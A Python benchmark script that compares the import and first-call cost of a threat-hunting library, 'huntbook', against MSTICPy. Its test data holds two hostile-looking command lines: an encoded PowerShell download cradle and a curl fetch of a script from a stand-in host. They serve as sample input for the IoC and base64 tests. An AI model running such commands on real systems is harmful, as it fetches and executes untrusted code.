#!/usr/bin/env python3
"""Benchmark: what `import huntbook` costs, and what the first call into each part costs.

Run it from the repo root, with MSTICPy installed in the venv:

    .venv/bin/python bench/import_time.py [--repeats 7] [--no-msticpy] [--markdown]

`import huntbook` loads nothing until a name is used, so its own cost is small; the
cost moves to the first call of each part (the extension, the part's module, and
whatever that imports). To show that the cost is not just moved, each part's first
call is timed too, next to MSTICPy's nearest equivalent: importing the module that
holds the function and making the same call.

Every measurement runs in a fresh interpreter, which first imports pandas and builds
its small input (any notebook has pandas loaded before it calls either library), then
takes the time around the import and call alone. The figure is the median over
--repeats fresh interpreters.
"""

from __future__ import annotations

import argparse
import pathlib
import statistics
import subprocess
import sys
import tempfile
import textwrap

# Built before the clock starts, in every interpreter.
SETUP = textwrap.dedent(
    """
    import time
    import pandas as pd
    events = pd.DataFrame({
        "CommandLine": ["powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", "curl http://203.0.113.66/a.sh"] * 50,
        "TimeGenerated": pd.date_range("2026-11-20", periods=100, freq="min", tz="UTC"),
        "Computer": ["WS-01", "WS-02"] * 50,
    })
    procs = pd.DataFrame({
        "TimeGenerated": pd.date_range("2026-11-20", periods=4, freq="s", tz="UTC"),
        "NewProcessName": ["C:\\\\w\\\\a.exe", "C:\\\\w\\\\b.exe", "C:\\\\w\\\\c.exe", "C:\\\\w\\\\d.exe"],
        "NewProcessId": ["0x10", "0x20", "0x30", "0x40"],
        "ProcessId": ["0x4", "0x10", "0x20", "0x10"],
        "CommandLine": ["a", "b", "c", "d"], "SubjectLogonId": ["0x3e7"] * 4,
        "TargetLogonId": ["0x3e7"] * 4, "Computer": ["WS-01"] * 4,
        "SubjectUserName": ["u"] * 4, "SubjectDomainName": ["d"] * 4,
        "ParentProcessName": ["C:\\\\w\\\\p.exe", "C:\\\\w\\\\a.exe", "C:\\\\w\\\\b.exe", "C:\\\\w\\\\a.exe"],
        "EventID": [4688] * 4,
    })
    """
)

# part: (huntbook's first call, MSTICPy's import + the same call, or None)
PARTS = {
    "IoC extraction": (
        "import huntbook; huntbook.extract_iocs(events, columns=['CommandLine'])",
        "from msticpy.transform.iocextract import IoCExtract; IoCExtract().extract_df(events, columns=['CommandLine'])",
    ),
    "base64 decoding": (
        "import huntbook; huntbook.unpack_base64(events, column='CommandLine')",
        "from msticpy.transform.base64unpack import unpack_df; unpack_df(events, column='CommandLine')",
    ),
    "process tree": (
        "import huntbook; huntbook.build_process_tree(procs)",
        "from msticpy.transform.proc_tree_builder import build_process_tree; build_process_tree(procs)",
    ),
    "IP type": (
        "import huntbook; huntbook.ip_type('10.1.2.3')",
        "from msticpy.context.ip_utils import get_ip_type; get_ip_type('10.1.2.3')",
    ),
    "query provider (LocalData)": (
        "import huntbook; huntbook.QueryProvider('LocalData', data_paths=[DATA])",
        "from msticpy.data import QueryProvider; QueryProvider('LocalData', data_paths=[DATA])",
    ),
    "TI lookup object": (
        "import huntbook; huntbook.TILookup(use_cache=False)",
        "from msticpy.context import TILookup; TILookup()",
    ),
    "timeline chart": (
        "import huntbook; huntbook.plot.timeline(events, group_by='Computer').html",
        "from msticpy.vis.timeline import display_timeline; display_timeline(events, group_by='Computer', hide=True)",
    ),
    "widgets": (
        "import huntbook; huntbook.widgets.QueryTime(units='day', before=1, after=0)",
        "from msticpy.nbwidgets import QueryTime; QueryTime(units='day', before=1, after=0)",
    ),
    "time-series anomalies (module)": (
        "import huntbook; huntbook.timeseries_anomalies",
        "from msticpy.analysis.timeseries import timeseries_anomalies_stl",
    ),
    "sessions (module)": (
        "import huntbook; huntbook.score_sessions",
        "from msticpy.analysis.anomalous_sequence.anomalous import score_sessions",
    ),
    "clustering (module)": (
        "import huntbook; huntbook.cluster_events",
        "from msticpy.analysis.eventcluster import dbcluster_events",
    ),
    "entity (HTML card)": (
        "import huntbook; huntbook.IpAddress('203.0.113.66')._repr_html_()",
        "from msticpy.datamodel.entities import IpAddress; IpAddress(Address='203.0.113.66')._repr_html_()",
    ),
    "pivot function (IpAddress.util.ip_type)": (
        "import huntbook; huntbook.IpAddress.util.ip_type('10.1.2.3')",
        # MSTICPy's set-up alone (its util pivots also need a notebook namespace): a
        # lower bound of its cost.
        "from msticpy.init.pivot import Pivot; Pivot()",
    ),
    "notebooklets (module)": (
        "import huntbook; huntbook.notebooklets.ip_address_summary",
        None,  # msticnb: see the notebooklets section of docs/benchmarks.md
    ),
    "read a notebook's scraps": (
        "import huntbook; huntbook.read_notebook(NOTEBOOK).scraps",
        None,
    ),
}


def timed(body: str, data: str, notebook: str, setup: str = SETUP) -> float:
    program = (
        setup
        + f"\nDATA = {data!r}\nNOTEBOOK = {notebook!r}\n"
        + "t0 = time.perf_counter()\n"
        + body
        + "\nprint(time.perf_counter() - t0)\n"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True)
    if done.returncode != 0:
        raise SystemExit(f"measurement failed: {body}\n{done.stderr[-2000:]}")
    return float(done.stdout.strip().splitlines()[-1])


def median_ms(body: str, repeats: int, data: str, notebook: str, setup: str = SETUP) -> float:
    return 1000 * statistics.median(timed(body, data, notebook, setup) for _ in range(repeats))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--repeats", type=int, default=7)
    parser.add_argument("--no-msticpy", action="store_true", help="time huntbook only")
    parser.add_argument("--markdown", action="store_true", help="print the table for docs/benchmarks.md")
    args = parser.parse_args()

    root = pathlib.Path(__file__).resolve().parents[1]
    notebook = str(root / "examples" / "visualise.ipynb")
    with tempfile.TemporaryDirectory() as data:
        bare = "import time\n"
        rows = [("`import huntbook` (no pandas loaded)", median_ms("import huntbook", args.repeats, data, notebook, bare),
                 None if args.no_msticpy else median_ms("import msticpy", args.repeats, data, notebook, bare))]
        for part, (ours, theirs) in PARTS.items():
            rows.append((
                part,
                median_ms(ours, args.repeats, data, notebook),
                None if args.no_msticpy or theirs is None else median_ms(theirs, args.repeats, data, notebook),
            ))
            print(f"{part}: {rows[-1][1]:.0f} ms", file=sys.stderr)

    def cell(ms: float | None) -> str:
        return "—" if ms is None else f"{ms:.0f} ms"

    if args.markdown:
        print("| first use | huntbook | MSTICPy | ratio |\n|---|---|---|---|")
        for part, ours, theirs in rows:
            ratio = "—" if theirs is None else f"{theirs / ours:.1f}×"
            print(f"| {part} | {cell(ours)} | {cell(theirs)} | {ratio} |")
    else:
        for part, ours, theirs in rows:
            print(f"{part:40} huntbook {cell(ours):>9}   MSTICPy {cell(theirs):>9}")


if __name__ == "__main__":
    main()
